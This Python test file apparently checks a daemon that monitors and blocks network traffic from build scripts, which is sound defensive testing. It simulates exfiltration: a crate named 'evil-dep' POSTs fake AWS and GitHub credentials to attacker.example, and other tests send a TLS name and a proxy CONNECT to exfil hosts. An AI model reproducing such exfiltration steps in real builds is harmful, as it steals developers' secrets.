"""The first data of builds' flows: HTTP request shapes and TLS names."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from tests.kernel.netlab import DaemonHandle, TestHost, Workspace

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEfake"  # a made-up value in AWS's format
TOKEN = "ghp_0fake1token2value3never4real5ab"


def assert_never_written(daemon: DaemonHandle) -> None:
    """Stop the daemon; the values were in packets it read, and are in no file it wrote."""
    assert daemon.stop() == 0
    for path in (daemon.events_path, daemon.log_path):
        text = path.read_text()
        assert SECRET not in text and TOKEN not in text, path


def test_post_from_a_build_script_is_an_alert_naming_secrets_not_values(
        daemon: DaemonHandle, test_host: TestHost, workspace: Workspace) -> None:
    workspace.cargo_build(test_host, "post4", env_extra={
        "EM_BODY": f"AWS_SECRET_ACCESS_KEY={SECRET}&GITHUB_TOKEN={TOKEN}&HOME=/root"})
    alert = daemon.wait_event("the http_post alert", lambda e: e["type"] == "alert"
                              and e["kind"] == "http_post")
    ev = alert["evidence"]
    assert (ev["method"], ev["host"], ev["path"]) == ("POST", "attacker.example", "/post4")
    assert ev["content_length"] > len(SECRET) and ev["dst"]["ip"] == test_host.v4
    assert ev["secret_names"] == ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]
    assert alert["severity"] == "critical" and alert["role"] == "build-script"
    assert alert["crate"] == {"name": "evil-dep", "version": "0.3.10"}
    assert [r["path"] for r in test_host.requests()] == ["/post4"]  # audit: it went through
    assert_never_written(daemon)


def test_tls_to_an_unlisted_name_is_flagged_and_a_listed_one_is_not(
        daemon: DaemonHandle, test_host: TestHost, tmp_path: Path) -> None:
    daemon.restart(policy="version: 1\nmode: audit\nrules:\n  - id: test-zone\n    role: other\n"
                   "    to: [{hosts: ['*.test.example']}]\n    action: allow\n")
    code = f"""
import socket, ssl
ctx = ssl.create_default_context()
for name in ("pkg.test.example", "exfil.unlisted.example"):
    with socket.create_connection(("{test_host.v4}", 8080), timeout=5) as raw:
        try:
            ctx.wrap_socket(raw, server_hostname=name)  # the server is not TLS: it fails
        except (ssl.SSLError, OSError):
            pass
"""
    subprocess.run(daemon.exec_argv(sys.executable, "-c", code), timeout=60, check=True,
                   capture_output=True)
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    flagged = [e for e in daemon.events("alert") if e["kind"] == "tls_unlisted_name"]
    assert [e["evidence"]["sni"] for e in flagged] == ["exfil.unlisted.example"]
    assert flagged[0]["evidence"]["reason"] == "not allowed by the policy"
    assert flagged[0]["severity"] == "critical" and flagged[0]["role"] == "other"


def test_a_large_upload_through_an_allowed_destination_is_an_alert(
        daemon: DaemonHandle, test_host: TestHost) -> None:
    daemon.restart("--upload-threshold", "1000000")
    code = f"""
import socket
body = bytes(range(256)) * 12_000  # 3 MB of opaque data
with socket.create_connection(("{test_host.v4}", 8080), timeout=10) as s:
    s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: files.example\\r\\nContent-Length: "
              + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
    s.recv(100)
"""
    subprocess.run(daemon.exec_argv(sys.executable, "-c", code), timeout=60, check=True,
                   capture_output=True)
    alert = daemon.wait_event("the upload alert", lambda e: e["type"] == "alert"
                              and e["kind"] == "upload")
    ev = alert["evidence"]
    assert ev["bytes_out"] >= 3_000_000 and ev["threshold"] == 1_000_000
    assert ev["bytes_in"] < ev["bytes_out"] and ev["dst"]["ip"] == test_host.v4
    assert alert["role"] == "other" and alert["severity"] == "critical"
    assert [r["body_len"] for r in test_host.requests()] == [3_072_000]


def test_enforce_mode_sinks_the_post_and_records_its_shape(
        daemon: DaemonHandle, test_host: TestHost, workspace: Workspace,
        tmp_path: Path) -> None:
    daemon.restart(policy="version: 1\nmode: enforce\n")
    workspace.cargo_build(test_host, "post4", env_extra={
        "EM_BODY": f"AWS_SECRET_ACCESS_KEY={SECRET}&GITHUB_TOKEN={TOKEN}"})
    alert = daemon.wait_event("the blocked attempt", lambda e: e["type"] == "alert"
                              and e["kind"] == "blocked_attempt")
    ev = alert["evidence"]
    assert (ev["method"], ev["host"], ev["path"]) == ("POST", "attacker.example", "/post4")
    assert ev["secret_names"] == ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]
    assert ev["dst"] == {"ip": test_host.v4, "port": 8080, "names": []}
    assert ev["rule"] == "default:build-script" and alert["blocked"] is True
    assert alert["crate"] == {"name": "evil-dep", "version": "0.3.10"}
    assert test_host.requests() == []  # nothing reached the host
    conn = daemon.events("connection")[0]
    assert conn["decision"] == "deny" and conn["dst"]["ip"] == test_host.v4
    assert_never_written(daemon)


def test_a_proxy_request_is_judged_on_the_destination_it_names(
        daemon: DaemonHandle, test_host: TestHost, tmp_path: Path) -> None:
    daemon.restart(policy="version: 1\nmode: enforce\ngroups:\n  proxy: {cidrs: ['"
                   + test_host.v4 + "/32'], ports: [8080]}\nrules:\n"
                   "  - {id: via-proxy, role: other, to: [proxy], action: allow}\n")
    out = subprocess.run(daemon.exec_argv(sys.executable, "-c", f"""
import socket
s = socket.create_connection(("{test_host.v4}", 8080), timeout=5)   # the proxy: allowed
s.sendall(b"CONNECT exfil.attacker.example:443 HTTP/1.1\\r\\n"
          b"Host: exfil.attacker.example:443\\r\\n\\r\\n")
try:
    print("answered" if s.recv(100) else "cut off")
except ConnectionResetError:
    print("cut off")
"""), capture_output=True, text=True, timeout=60, check=True).stdout.strip()
    assert out == "cut off"
    alert = daemon.wait_event("the blocked proxy request", lambda e: e["type"] == "alert"
                              and e["kind"] == "blocked_attempt")
    assert alert["evidence"]["proxied_to"] == "exfil.attacker.example:443"
    assert alert["evidence"]["method"] == "CONNECT" and alert["rule"] == "default:other"
    assert [e["decision"] for e in daemon.events("connection")] == ["allow"]
    assert test_host.requests() == []  # the proxy never saw the request
